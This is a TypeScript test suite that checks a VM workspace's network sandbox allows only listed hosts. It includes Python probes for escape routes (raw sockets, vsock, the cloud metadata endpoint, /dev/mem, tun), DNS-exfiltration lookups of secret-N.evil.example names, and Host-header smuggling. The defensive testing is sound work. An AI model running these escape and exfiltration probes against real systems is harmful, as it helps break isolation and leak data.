/**
 * What programs of the workspace can reach, tried from inside: by name and by address, on any port, with and without proxy variables; and
 * that nothing else leaves by any way we know. As a session's user, as root within a session and as root of the whole guest; again after the
 * VM was restored from its saved memory.
 */
import { once } from 'node:events'
import http from 'node:http'
import https from 'node:https'
import net, { type AddressInfo } from 'node:net'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import tls from 'node:tls'
import { createAuthority } from '../../actors/egress/authority.ts'
import { trustBesides } from '../../actors/egress/network.ts'
import { startWorkspace, type Workspace } from '../harness/network.ts'
import { attempts } from './egress-attempts.ts'

let workspace: Workspace
let page: http.Server
let echo: net.Server
let pagePort: number
let echoPort: number
let secure: https.Server
let securePort: number
const trustedBefore = tls.getCACertificates('default')
const token = 'tok-made-up-Zm9vYmFy'
const tokens: string[] = []
const seen: string[] = []
let echoed = 0

beforeAll(async () => {
  page = http.createServer((request, response) => {
    seen.push(`${request.method} ${request.headers.host}${request.url}`)
    if (request.url === '/drip') return void response.write('first\n')
    if (request.url === '/large') return void response.end(Buffer.alloc(4 * 1024 * 1024, 'x'))
    return void response.end('the page\n')
  })
  echo = net.createServer({ allowHalfOpen: true }, (socket) => {
    socket.on('error', () => undefined)
    socket.on('data', (bytes) => (echoed += bytes.length))
    socket.pipe(socket)
  })
  // A host of the internet, with a certificate this machine trusts.
  const company = createAuthority()
  trustBesides(await company.certificate())
  const context = await company.contextFor('s.example')
  secure = https.createServer({ SNICallback: (_name, done) => done(null, context) }, (request, response) => {
    tokens.push(`${request.method} ${request.url} ${request.headers.authorization ?? 'none'}`)
    response.end(`you sent ${request.headers.authorization ?? 'none'}\n`)
  })
  for (const server of [page, echo, secure]) {
    server.listen(0, '127.0.0.1')
    await once(server, 'listening')
  }
  pagePort = (page.address() as AddressInfo).port
  echoPort = (echo.address() as AddressInfo).port
  securePort = (secure.address() as AddressInfo).port
  workspace = await startWorkspace()
  for (const session of ['open', 'other', 'closed']) await workspace.attach(session)
  await workspace.network('open', ['a.example', '203.0.113.7', 'x.private.example', 's.example'])
  await workspace.network('other', ['b.example'])
})
afterAll(async () => {
  await workspace?.stop()
  for (const server of [page, secure]) {
    server.closeAllConnections()
    server.close()
  }
  echo.close()
  tls.setDefaultCACertificates(trustedBefore)
})

/** A Python program, as one shell word. */
const python = (code: string) => `python3 - <<'PYTHON'\n${code}\nPYTHON`
const direct = "--noproxy '*'"

type Who = 'session' | 'root' | 'machine'
/** How many ways are tried: to what is not allowed, and beside all that; they stand in the specification too. */
const counts = { attempts: 217, session: 51, root: 38, machine: 38 } as const

/** Every name, spelling and shape of the catalogue, as one who may reach a.example alone; counts what the origin heard. */
async function reachesNothingElse(who: Who): Promise<string[]> {
  workspace.lookedUp()
  const ran = await workspace.exec('open', python(attempts('a.example', pagePort)), who)
  const { tried, through } = JSON.parse(ran.stdout.trim() || '{}') as { tried?: number; through?: string[] }
  expect([through, ran.stderr.includes('Traceback')], ran.stderr.slice(-500)).toEqual([[], false])
  expect(tried).toBe(counts.attempts)
  expect(seen.filter((line) => line.includes('/stolen') && !line.includes(` a.example:${pagePort}/`))).toEqual([])
  return workspace.lookedUp().filter((name) => name !== 'a.example')
}

/** Tries them all from inside, as a session that may reach nothing, and counts what arrived anywhere. */
async function carriesNothing(who: Who = 'session'): Promise<number> {
  workspace.lookedUp()
  const before = { seen: seen.length, echoed, decisions: (await workspace.decisions()).length }
  const ran = await workspace.exec(
    'closed',
    python(`
import os, socket
tried, out = 0, []
def attempt(name, act):
    global tried
    tried += 1
    try:
        act()
        out.append(name)
    except (OSError, AttributeError, ValueError):
        pass
def udp(address, port, family=socket.AF_INET):
    def act():
        s = socket.socket(family, socket.SOCK_DGRAM)
        s.settimeout(2)
        s.connect((address, port))
        s.send(b"x" * 40)
        s.send(b"x" * 40)
        s.recv(100)
    return act
def tcp(address, port, family=socket.AF_INET):
    def act():
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(5)
        s.connect((address, port))
        s.sendall(b"x" * 40)
        if not s.recv(100): raise OSError
    return act
for port in (53, 67, 69, 123, 137, 161, 443, 514, 853, 1900, 3478, 4789, 5353, 5355, 51820):
    attempt(f"udp {port}", udp("198.51.100.53", port))
attempt("multicast dns", udp("224.0.0.251", 5353))
attempt("broadcast", udp("255.255.255.255", 9))
attempt("udp over IPv6", udp("2001:db8::53", 53, socket.AF_INET6))
attempt("metadata", tcp("169.254.169.254", 80))
for port in (21, 22, 25, 53, 80, 143, 443, 853, 6379, 8080):
    attempt(f"tcp {port}", tcp("198.51.100.53", port))
attempt("tcp over IPv6", tcp("2001:db8::53", 443, socket.AF_INET6))
for kind, proto in ((socket.SOCK_RAW, 1), (socket.SOCK_DGRAM, 1), (socket.SOCK_RAW, 6), (socket.SOCK_RAW, 255)):
    attempt(f"icmp or raw {kind} {proto}", lambda: socket.socket(socket.AF_INET, kind, proto).sendto(b"x" * 40, ("198.51.100.53", 0)))
def packet():
    s = socket.socket(17, socket.SOCK_RAW, 3)
    others = [name for _, name in socket.if_nameindex() if name != "lo"]
    if not others: raise OSError("no interface")
    for name in others:
        s.bind((name, 0))
        s.send(b"\\xff" * 60)
attempt("packet", packet)
attempt("vsock to the host", lambda: socket.socket(40, socket.SOCK_STREAM).connect((2, 1024)))
attempt("vsock to the hypervisor", lambda: socket.socket(40, socket.SOCK_STREAM).connect((0, 1)))
attempt("tun", lambda: os.open("/dev/net/tun", os.O_RDWR))
# Root of the guest owns these; what it could write there is the host's to disbelieve (link.test.ts).
for path in [] if os.getuid() == 0 else ["/dev/vport1p0", "/dev/vport1p1", "/dev/vport1p2", "/dev/vport1p3", "/dev/hvc0", "/dev/ttyS0", "/dev/mem", "/dev/port", "/dev/vda", "/dev/vdb", "/dev/fuse", "/dev/vhost-vsock", "/sys/firmware/qemu_fw_cfg/by_name"]:
    attempt(path, lambda: os.open(path, os.O_RDWR if path.startswith("/dev") else os.O_RDONLY))
# Each port of the machine to the host has one who holds it: its agent.
def port_of_machine(path):
    def act():
        held = os.open(path, os.O_WRONLY)
        os.write(held, b"x" * 40)
        os.close(held)
    return act
if os.getuid() == 0:
    ports = sorted("/dev/" + name for name in os.listdir("/dev") if name.startswith("vport"))
    counted = tried
    for path in ports: attempt(path, port_of_machine(path))
    tried = counted
print(tried, out)`),
    who,
  )
  // Root may make any socket; its packets stay in a machine that has no card, which is what counts below.
  expect(ran.stdout.trim(), ran.stderr).toMatch(who === 'session' ? /^\d+ \[\]$/ : /^\d+ \[.*\]$/)
  expect(ran.stdout).not.toContain('vport')
  expect(Number.parseInt(ran.stdout, 10)).toBe(counts[who])
  expect({ seen: seen.length, echoed }).toEqual({ seen: before.seen, echoed: before.echoed })
  expect(workspace.lookedUp()).toEqual([])
  return (await workspace.decisions()).length - before.decisions
}

describe('what is allowed', () => {
  test('is reached by any program, by name, on any port, with no variable set', async () => {
    const ran = await workspace.exec('open', `curl -sS ${direct} http://a.example:${pagePort}/x`)
    expect([ran.stdout, ran.exitCode]).toEqual(['the page\n', 0])
    const raw = await workspace.exec(
      'open',
      python(`
import socket
s = socket.create_connection(("a.example", ${echoPort}))
s.sendall(b"hello " * 1000)
s.shutdown(socket.SHUT_WR)
got = b""
while True:
    more = s.recv(65536)
    if not more: break
    got += more
print(len(got), got[:6])`),
    )
    expect(raw.stdout.trim()).toBe("6000 b'hello '")
  })
  test('is reached through the proxy variables as well', async () => {
    const ran = await workspace.exec(
      'open',
      `curl -sS http://a.example:${pagePort}/y; curl -sS -x socks5h://127.0.0.1:1080 http://a.example:${pagePort}/z`,
    )
    expect(ran.stdout).toBe('the page\nthe page\n')
    expect(seen.slice(-2)).toEqual([`GET a.example:${pagePort}/y`, `GET a.example:${pagePort}/z`])
  })
  test('large answers arrive whole', async () => {
    const ran = await workspace.exec('open', `curl -sS ${direct} http://a.example:${pagePort}/large | wc -c`)
    expect(ran.stdout.trim()).toBe(String(4 * 1024 * 1024))
  })
})

describe('what is not allowed', () => {
  test.each([
    ['another host', 'open', () => `http://b.example:${pagePort}/`, 'b.example'],
    ["another session's host", 'other', () => `http://a.example:${pagePort}/`, 'a.example'],
    ['an address that is not listed', 'open', () => `http://198.51.100.1:${pagePort}/`, '198.51.100.1'],
    ['an IPv6 address', 'open', () => `http://[2001:db8::1]:${pagePort}/`, '[2001:db8::1]'],
    ['an allowed name that leads inside', 'open', () => `http://x.private.example:${pagePort}/`, 'x.private.example'],
  ])('%s: refused, and the program’s output says why', async (_what, session, url, host) => {
    const before = seen.length
    const ran = await workspace.exec(session, `curl -sS -m 60 ${direct} '${url()}'`)
    expect(ran.exitCode).not.toBe(0)
    expect(ran.stderr).toContain(`bulkhead: no connection to ${host}:`)
    expect(seen.length).toBe(before)
  })
  test('a session without a network reaches nothing', async () => {
    expect((await workspace.exec('closed', `curl -sS -m 60 ${direct} http://a.example:${pagePort}/`)).exitCode).not.toBe(0)
  })
  test('through the proxy, the refusal comes in words', async () => {
    const ran = await workspace.exec('open', `curl -sS http://b.example:${pagePort}/`)
    expect(ran.stdout).toContain('Bulkhead: b.example')
    expect(ran.stdout).toContain('Rule: hosts: not listed')
  })
  test('another name inside an allowed connection', async () => {
    const ran = await workspace.exec('open', `curl -sS -m 60 ${direct} -H 'Host: evil.example' http://a.example:${pagePort}/`)
    expect(ran.exitCode).not.toBe(0)
    expect(seen.some((line) => line.includes('evil.example'))).toBe(false)
  })
})

describe('other ways out', () => {
  test.each(['session', 'root', 'machine'] as const)('none of them carries a byte, as %s', async (who) => {
    expect(await carriesNothing(who)).toBe(0)
  })
  test.each(['session', 'root', 'machine'] as const)('no name, spelling or shape reaches what is not allowed, as %s', async (who) => {
    expect(await reachesNothingElse(who)).toEqual([])
  })
  test('a name is never looked up for asking, only for connecting to a host that is allowed', async () => {
    workspace.lookedUp()
    const names = Array.from({ length: 5 }, (_, at) => `secret-${at}.evil.example`).join(' ')
    const ran = await workspace.exec(
      'open',
      `for n in ${names}; do getent ahostsv4 $n | head -1; curl -sS -m 30 ${direct} http://$n/; done`,
    )
    expect(ran.stdout).toMatch(/^198\.1[89]\./)
    expect(workspace.lookedUp()).toEqual([])
  })
})

describe('a host whose requests are read', () => {
  test('programs trust what they meet there; a secret arrives and does not come back; what may not be asked is refused in words', async () => {
    await workspace.rule({ change: 'request', rule: { host: 's.example', methods: ['GET'], path: '/v1/**' } })
    await workspace.secret('api', 's.example', securePort, token)
    const at = `https://s.example:${securePort}`
    const ran = await workspace.exec(
      'open',
      [
        `curl -sS ${direct} -H 'Authorization: Bearer my-own' ${at}/v1/curl`,
        `curl -sS ${at}/v1/proxied`,
        python(
          `import urllib.request; print(urllib.request.build_opener(urllib.request.ProxyHandler({})).open("${at}/v1/python").read().decode().strip())`,
        ),
        `curl -sS ${direct} -X POST -d x ${at}/v1/curl`,
        `curl -sS ${direct} ${at}/v2`,
        'env',
      ].join('\n'),
    )
    expect(ran.stdout.match(/you sent Bearer \[key\]/g), ran.stderr).toHaveLength(3)
    expect(tokens).toEqual(['curl', 'proxied', 'python'].map((name) => `GET /v1/${name} Bearer ${token}`))
    expect(ran.stdout.match(/Rule: request rules/g)).toHaveLength(2)
    expect(`${ran.stdout}${ran.stderr}`).not.toContain(token)
  })
  test('a program that does not trust it gets nothing, and neither does the host', async () => {
    const ran = await workspace.exec(
      'open',
      `SSL_CERT_FILE= CURL_CA_BUNDLE=/dev/null curl -sS -m 60 ${direct} https://s.example:${securePort}/v1/x`,
    )
    expect(ran.exitCode).not.toBe(0)
    expect(tokens.some((line) => line.includes('/v1/x'))).toBe(false)
  })
})

test('a rule cuts what is open', async () => {
  const running = workspace.exec('open', `curl -sSN -m 120 ${direct} http://a.example:${pagePort}/drip`)
  await expect.poll(() => seen.at(-1)).toContain('/drip')
  await workspace.rule({ change: 'deny', pattern: 'a.example' })
  const ran = await running
  expect(ran.exitCode).not.toBe(0)
  expect(ran.stderr).toContain('deny a.example (egress rules)')
  await workspace.rule({ change: 'forget', pattern: 'a.example' })
})

test('all of it holds after the VM was restored from its saved memory', async () => {
  await workspace.restart()
  expect((await workspace.status()).start).toBe('restored')
  const ran = await workspace.exec(
    'open',
    `curl -sS ${direct} http://a.example:${pagePort}/x; curl -sS -m 60 ${direct} http://b.example:${pagePort}/`,
  )
  expect(ran).toMatchObject({ stdout: 'the page\n', stderr: expect.stringContaining('bulkhead: no connection to b.example') })
  expect((await workspace.exec('closed', `curl -sS -m 60 ${direct} http://a.example:${pagePort}/`)).exitCode).not.toBe(0)
  const read = await workspace.exec('open', `curl -sS ${direct} https://s.example:${securePort}/v1/restored`)
  expect(read.stdout, read.stderr).toContain('you sent Bearer [key]')
  expect(await carriesNothing('machine')).toBe(0)
  expect(await reachesNothingElse('session')).toEqual([])
})

test('all of it holds after the supervisor crashed, and what a session may reach is forgotten until it is told again', async () => {
  await workspace.crash()
  await workspace.attach('open')
  const ask = `curl -sS -m 60 ${direct} http://a.example:${pagePort}/x`
  expect((await workspace.exec('open', ask)).exitCode).not.toBe(0)
  await workspace.attach('closed')
  await workspace.network('open', ['a.example'])
  expect((await workspace.exec('open', ask)).stdout).toBe('the page\n')
  expect(await carriesNothing('root')).toBe(0)
  expect(await reachesNothingElse('root')).toEqual([])
})
